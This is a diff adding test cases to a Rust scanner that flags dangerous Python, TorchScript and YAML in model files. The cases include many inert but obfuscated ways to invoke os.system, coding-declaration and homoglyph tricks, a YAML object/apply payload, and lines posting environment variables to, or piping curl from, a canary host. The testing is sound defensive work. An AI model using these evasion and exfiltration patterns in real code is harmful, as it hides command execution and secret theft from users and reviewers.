@@ -39,6 +39,34 @@ fn what_happens_on_import_is_seen() {
         ("import socket\ns = socket.socket()\n", "socket.socket"),
         ("import marshal\nmarshal.loads(b'')\n", "marshal.loads"),
         ("import requests, os\nrequests.post('https://canary.invalid', json=dict(os.environ))\n", "requests.post"),
+        ("import importlib\nimportlib.import_module('os').system('inert')\n", "os.system"),
+        ("import sys\nsys.modules['os'].system('inert')\n", "os.system"),
+        ("import os\nos.__dict__['system']('inert')\n", "os.system"),
+        ("import os\nvars(os)['system']('inert')\n", "os.system"),
+        ("import os\nlist(map(os.system, ['inert']))\n", "os.system"),
+        ("import os\nfrom threading import Thread\nThread(target=os.system, args=('inert',)).start()\n", "os.system"),
+        ("import os\n@os.system\ndef f(): pass\n", "os.system"),
+        ("import os\n(os.system)('inert')\n", "os.system"),
+        ("import atexit, os\natexit.register(os.system, 'inert')\n", "os.system"),
+        ("import os\nx = f\"{os.system('inert')}\"\n", "os.system"),
+        ("import os\nos.ｓystem('inert')\n", "os.system"),
+        ("import os\ndef f():\n    os.system('inert')\nf()\n", "os.system"),
+        ("import os\n(run := os.system)('inert')\n", "os.system"),
+        ("import os\n(lambda: os.system('inert'))()\n", "os.system"),
+        ("import cProfile\ncProfile.run('inert')\n", "cProfile.run"),
+        ("import timeit\ntimeit.timeit('inert')\n", "timeit.timeit"),
+        ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('inert'))\n", "asyncio.create_subprocess_shell"),
+        (
+            "import os\nclass A:\n    def __init__(self):\n        g()\ndef g():\n    os.system('inert')\nA()\n",
+            "os.system",
+        ),
+        ("import os\nclass A:\n    def __init__(self):\n        os.system('inert')\nA()\n", "os.system"),
+        ("list(map(__import__('os').system, ['inert']))\n", "os.system"),
+        ("import sys\nm = sys.modules.get('os')\nm.system('inert')\n", "os.system"),
+        ("import shutil\nshutil.os.system('inert')\n", "os.system"),
+        ("import os # x\ros.system('inert')\n", "os.system"),
+        ("# -*- coding: utf-7 -*-\nx = 1\n", "coding: utf-7"),
+        ("# coding=unicode_escape\n", "coding: unicode-escape"),
         // Encoded code is no better within a function.
         ("import base64\ndef f():\n    exec(base64.b64decode('eA=='))\n", "builtins.exec"),
         ("import os\ndef f():\n    os.system('curl https://canary.invalid | sh')\n", "os.system"),
@@ -69,6 +97,12 @@ fn honest_scripts_are_only_listed() {
         "def eval(x):\n    return x\neval(1)\n",
         "import pickle\nwith open('x', 'rb') as f:\n    x = pickle.load(f)\n",
         "x = getattr(model, 'a' + 'b')\n",
+        "import subprocess\ndef f(p: subprocess.Popen) -> subprocess.CompletedProcess:\n    pass\n",
+        "import subprocess\nclass A:\n    p: Optional[subprocess.Popen] = None\n    eval: bool = True\n",
+        "import subprocess\n_run = subprocess.run\ntry:\n    x = 1\nexcept subprocess.CalledProcessError:\n    pass\n",
+        "f(eval=True, exec=1)\nfrom x import (eval, exec)\n",
+        "import os\nf = lambda a, b: os.system(a)\n",
+        "# -*- coding: latin-1 -*-\nx = 1\n",
     ] {
         assert_eq!(deeds("train.py", text), [""; 0], "{text}");
     }
@@ -97,6 +131,36 @@ fn shell_scripts_are_read_by_their_commands() {
 }
 
 #[test]
+fn operators_of_torchscript_are_those_of_torch() {
+    for (text, expected) in [
+        ("def forward(self, x):\n  return torch.add(x, ops.torchvision.nms(x), alpha=1)\n", None),
+        ("_0 = ops.prim.data(torch.load_state)\nx = torch.relu(y)\nz = self.torch.save(x)\n", None),
+        ("_0 = torch.save(x, \"/tmp/inert\")\n", Some("torch.save")),
+        ("_0 = torch.from_file(\"/etc/inert\", False, 1)\n", Some("torch.from_file")),
+        ("_0 = ops.aten.from_file(\"/etc/inert\")\n", Some("ops.aten.from_file")),
+        ("_0 = ops.canary.run(x)\n", Some("ops.canary.run")),
+    ] {
+        let inspection = jingwei_template::inspect_torchscript(&mut text.as_bytes(), &Limits::default());
+        let found: Vec<_> = inspection.sightings.iter().filter_map(|sighting| sighting.key.as_deref()).collect();
+        assert_eq!(found, Vec::from_iter(expected), "{text}");
+    }
+}
+
+#[test]
+fn other_bytes_hide_nothing() {
+    let wide: Vec<u8> = "\u{feff}import os\nos.system('inert')\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    for bytes in [&b"# \xe9\x01\x1b\nimport os\nos.system('inert')\n"[..], &wide] {
+        let inspection = inspect_script(&mut &*bytes, "x.py", &NAMES, &Limits::default());
+        assert!(inspection.sightings.iter().any(|sighting| sighting.key.as_deref() == Some("os.system")));
+    }
+    let unmarked = inspect_script(&mut &wide[2..], "x.py", &NAMES, &Limits::default());
+    assert!(unmarked.sightings.iter().any(|sighting| sighting.rule == "model.not-inspected"));
+    let tag = b"# \xe9\na: !<tag:yaml.org,2002:python/object/apply:os.system> [\"true\"]\n";
+    let inspection = jingwei_template::inspect_yaml(&mut &tag[..], "x.yaml", &NAMES, &Limits::default());
+    assert!(inspection.sightings.iter().any(|sighting| sighting.rule == "model.config-dangerous-target"));
+}
+
+#[test]
 fn work_is_bounded() {
     for text in [
         "exec(".repeat(6_000),
@@ -106,6 +170,11 @@ fn work_is_bounded() {
         "def f():\n ".repeat(2_000),
         "import os\nos.system('x');".repeat(1_000),
         "lambda: eval(".repeat(3_000),
+        (1..10_000).map(|i| format!("a{i}=a{}.b\n", i - 1)).collect(),
+        "from x import *\n".repeat(1_000) + &"f()\n".repeat(3_000),
+        "f(".repeat(300_000),
+        "a.".repeat(300_000),
+        "x = f'{'".repeat(3_000),
     ] {
         let inspection = inspect_script(&mut text.as_bytes(), "x.py", &NAMES, &Limits::default());
         assert!(inspection.sightings.len() <= 60);
